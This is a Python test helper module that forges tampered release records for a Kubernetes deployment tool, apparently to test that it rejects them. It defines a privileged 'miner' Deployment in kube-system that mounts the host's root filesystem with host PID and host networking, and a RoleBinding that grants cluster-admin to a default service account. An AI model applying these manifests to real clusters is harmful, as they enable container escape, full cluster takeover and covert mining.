"""Good releases that somebody else has written: what an attacker would have us apply."""

from __future__ import annotations

import base64
import copy
import json
import zlib
from collections.abc import Callable
from typing import Any

Manifests = list[dict[str, Any]]


def revision_of(manifests: Manifests) -> str:
    """The revision as the project computes it, so that it is right in a planted record too."""
    from kfp_bento.runtime.deployments import revision_of

    return revision_of(manifests)


def pack(manifests: Manifests, **facts: Any) -> str:
    """The annotation's text: with labels, marks and a revision that agree with the manifests."""
    told = {"revision": revision_of(manifests), "image": "", "bento": "wine:v1", **facts}
    text = json.dumps({**told, "manifests": manifests}, sort_keys=True, separators=(",", ":"))
    return base64.b64encode(zlib.compress(text.encode(), 9)).decode()


def marked_again(manifests: Manifests) -> Manifests:
    """The same objects with the marks of their own revision, as `record_release` writes them."""
    revision = revision_of(manifests)
    for manifest in manifests:
        annotations = manifest["metadata"].get("annotations") or {}
        if "kfp-bento/revision" in annotations:
            annotations["kfp-bento/revision"] = revision
    return manifests


def changed(manifests: Any, change: Callable[[Manifests], Any]) -> Manifests:
    """A copy with something changed in it, and marks that agree with that."""
    copied: Manifests = json.loads(json.dumps(copy.deepcopy(list(manifests))))
    change(copied)
    return marked_again(copied)


def privileged_deployment(labels: dict[str, str]) -> dict[str, Any]:
    pods = {"app": "miner"}
    container = {
        "name": "main",
        "image": "registry.example.com/evil@sha256:" + "e1" * 32,
        "securityContext": {"privileged": True, "runAsUser": 0},
        "volumeMounts": [{"name": "host", "mountPath": "/host"}],
    }
    spec = {
        "hostPID": True,
        "hostNetwork": True,
        "containers": [container],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    }
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "miner", "namespace": "kube-system", "labels": labels},
        "spec": {
            "selector": {"matchLabels": pods},
            "template": {"metadata": {"labels": pods}, "spec": spec},
        },
    }


def cluster_admin(namespace: str, labels: dict[str, str]) -> dict[str, Any]:
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "everything", "namespace": namespace, "labels": labels},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "cluster-admin",
        },
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": namespace}],
    }
